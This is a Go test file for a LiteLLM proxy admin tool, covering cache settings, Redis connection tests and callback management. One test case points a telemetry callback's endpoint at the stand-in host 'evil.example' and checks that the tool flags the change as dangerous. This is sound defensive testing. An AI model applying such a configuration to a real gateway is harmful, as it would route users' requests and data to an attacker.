package tools

import (
	"slices"
	"strings"
	"testing"

	"litellm-proxy/internal/operation"
)

const (
	noRedis = `{"fields":[],"current_values":{}}`
	redis   = `{"fields":[],"current_values":{"type":"redis","redis_type":"node","host":"10.0.0.1","port":6379,"ttl":60,"password":"***REDACTED***"}}`
)

// TestCacheSettings: the gateway replaces the settings of its cache. The present ones are
// sent too, but for what it derives and what it shows redacted.
func TestCacheSettings(t *testing.T) {
	for _, tt := range []struct {
		has, args, sent, after, note, err string
	}{
		{has: redis, args: `{"cache_settings":{"ttl":90}}`, sent: `{"host":"10.0.0.1","port":6379,"ttl":90,"type":"redis"}`, after: `"ttl":60 "ttl":90`},
		{has: redis, args: `{"cache_settings":{"ttl":null}}`, sent: `{"host":"10.0.0.1","port":6379,"type":"redis"}`, after: `"ttl":60 "ttl":null`},
		{has: redis, args: `{"cache_settings":{"password":null}}`, sent: `{"host":"10.0.0.1","password":null,"port":6379,"ttl":60,"type":"redis"}`, after: `,"password":"***REDACTED***" `},
		{has: redis, args: `{"cache_settings":{"password":"new"}}`, sent: `{"host":"10.0.0.1","password":"new","port":6379,"ttl":60,"type":"redis"}`, after: `"ttl":60 "ttl":60`},
		{has: redis, args: `{"cache_settings":{"host":"10.0.0.2"}}`, sent: `{"host":"10.0.0.2","port":6379,"ttl":60,"type":"redis"}`, after: `"host":"10.0.0.1" "host":"10.0.0.2"`, note: "it drops password"},
		{has: redis, args: `{"cache_settings":{"host":"10.0.0.2","password":"new"}}`, sent: `{"host":"10.0.0.2","password":"new","port":6379,"ttl":60,"type":"redis"}`, after: `"host":"10.0.0.1" "host":"10.0.0.2"`},
		{has: redis, args: `{"cache_settings":{"ttl":90}}`, sent: `{"host":"10.0.0.1","port":6379,"ttl":90,"type":"redis"}`, after: `"ttl":60 "ttl":60`, err: "kept"},
		{has: noRedis, args: `{"cache_settings":{"ttl":90}}`, err: "needs a type"},
		{has: noRedis, args: `{"cache_settings":{"type":"bogus"}}`, err: "the type bogus is not one of local, redis"},
		{has: redis, args: `{}`, err: "nothing to change"},
	} {
		s := &stored{answers: map[string]string{"GET /cache/settings": tt.has, "POST /cache/settings": `{"status":"success"}`}}
		if tt.after != "" {
			old, is, _ := strings.Cut(tt.after, " ")
			s.after = map[string]string{"GET /cache/settings": strings.Replace(redis, old, is, 1)}
		}
		result, err := run(t.Context(), envOf(t, s), cacheSettingsUpdate, givenIn(t, tt.args))
		sent := strings.TrimSuffix(strings.TrimPrefix(strings.Join(s.sent, ""), `POST /cache/settings {"cache_settings":`), "}")
		if notes := strings.Join(result.Notes, " "); sent != tt.sent || (tt.note == "") != (notes == "") || !strings.Contains(notes, tt.note) {
			t.Errorf("%s on %s sent %s, want %s; notes %q, want %q", tt.args, tt.has, sent, tt.sent, notes, tt.note)
		}
		if tt.err == "" && err != nil || tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)) {
			t.Errorf("%s on %s: %v, want %q", tt.args, tt.has, err, tt.err)
		}
	}
}

// TestCacheSettingsFail: the gateway stores settings with which its cache does not start.
func TestCacheSettingsFail(t *testing.T) {
	s := &stored{status: map[string]int{"POST /cache/settings": 500}, answers: map[string]string{"GET /cache/settings": redis,
		"POST /cache/settings": `{"detail":"Error updating cache settings: collection_name must be provided, passed None"}`}}
	s.after = map[string]string{"GET /cache/settings": strings.Replace(redis, `"type":"redis"`, `"type":"qdrant-semantic"`, 1)}
	_, err := run(t.Context(), envOf(t, s), cacheSettingsUpdate, givenIn(t, `{"cache_settings":{"type":"qdrant-semantic"}}`))
	if err == nil || !strings.Contains(err.Error(), "collection_name must be provided") || !strings.Contains(err.Error(), "stored the settings anyway") {
		t.Errorf("%v", err)
	}
}

// TestRedisTests: a test that fails is a failure, although the gateway answers 200.
func TestRedisTests(t *testing.T) {
	for op, answers := range map[*operation.Operation][2]string{
		cacheSettingsTest:        {`{"status":"success","message":"ok"}`, `{"status":"failed","message":"Connection refused.","error":"refused"}`},
		settingsCoordinationTest: {`{"status":"healthy","error":null}`, `{"status":"unhealthy","error":"Connection refused."}`},
	} {
		for i, answer := range answers {
			s := &stored{answers: map[string]string{"GET /cache/settings": redis, "GET /coordination_redis/settings": `{"values":{"host":"10.0.0.1"}}`,
				"POST /cache/settings/test": answer, "POST /coordination_redis/settings/test": answer}}
			result, err := run(t.Context(), envOf(t, s), op, operation.Args{})
			if err != nil || len(result.Failed) != i || i == 1 && result.Failed[0].Why != "Connection refused." || strings.Contains(strings.Join(s.sent, ""), "REDACTED") {
				t.Errorf("%s, answer %s: %+v, %v; sent %s", op.Path, answer, result.Failed, err, s.sent)
			}
		}
	}
}

// TestCallbacks adds and deletes callbacks.
func TestCallbacks(t *testing.T) {
	const has = `{"callbacks":[{"name":"langfuse","variables":{"LANGFUSE_SECRET_KEY":"x"},"type":"success"},{"name":"dotprompt","type":"success_and_failure","read_only":true}],"available_callbacks":{"langfuse":{},"otel":{}}}`
	with := func(name, kind string) string {
		return strings.Replace(has, `"callbacks":[`, `"callbacks":[{"name":"`+name+`","type":"`+kind+`"},`, 1)
	}
	for _, tt := range []struct {
		op                                   *operation.Operation
		args, after, running, sent, err, why string
	}{
		{op: callbacksAdd, args: `{"callback_name":"otel","environment_variables":{"OTEL_ENDPOINT":"https://evil.example","N":1}}`, after: with("otel", "success"), running: `{"success":["otel"]}`,
			sent: `POST /config/update {"environment_variables":{"N":"1","OTEL_ENDPOINT":"https://evil.example"},"litellm_settings":{"success_callback":["otel"]}}`,
			why:  "sets environment variables of the gateway: N, OTEL_ENDPOINT"},
		{op: callbacksAdd, args: `{"callback_name":"otel","type":"success_and_failure"}`, after: with("otel", "success_and_failure"), running: `{"success":["otel"]}`,
			sent: `POST /config/update {"litellm_settings":{"callbacks":["otel"]}}`, why: "sends all calls of the gateway to otel"},
		{op: callbacksAdd, args: `{"callback_name":"my.handler"}`, after: with("my.handler", "success"), running: `{"success":["my.handler"]}`,
			sent: `POST /config/update {"litellm_settings":{"success_callback":["my.handler"]}}`, why: "runs the Python code my.handler on the gateway"},
		{op: callbacksAdd, args: `{"callback_name":"otel"}`, after: has, sent: `POST /config/update {"litellm_settings":{"success_callback":["otel"]}}`, err: "callback otel is not configured"},
		{op: callbacksAdd, args: `{"callback_name":"langfusee"}`, err: "did you mean langfuse?"},
		{op: callbacksDelete, args: `{"callback_name":"langfuse"}`, after: `{"callbacks":[]}`, sent: `POST /config/callback/delete {"callback_name":"langfuse"}`},
		{op: callbacksDelete, args: `{"callback_name":"langfuse"}`, after: has, sent: `POST /config/callback/delete {"callback_name":"langfuse"}`, err: "still configured"},
	} {
		s := &stored{answers: map[string]string{"GET /get/config/callbacks": has, "GET /callbacks/list": tt.running, "POST /config/update": `{}`, "POST /config/callback/delete": `{}`},
			after: map[string]string{"GET /get/config/callbacks": tt.after}}
		env := envOf(t, s)
		call, err := operation.Prepare(t.Context(), env, tt.op, givenIn(t, tt.args))
		var dangers []string
		if err == nil {
			dangers, _ = call.Dangers(t.Context())
			_, err = run(t.Context(), env, tt.op, givenIn(t, tt.args))
		}
		if sent := strings.Join(s.sent, ""); sent != tt.sent || tt.why != "" && !slices.Contains(dangers, tt.why) {
			t.Errorf("%s %s sent %s, want %s; dangers %q, want %q", tt.op.Path, tt.args, sent, tt.sent, dangers, tt.why)
		}
		if tt.err == "" && err != nil || tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)) {
			t.Errorf("%s %s: %v, want %q", tt.op.Path, tt.args, err, tt.err)
		}
	}
}
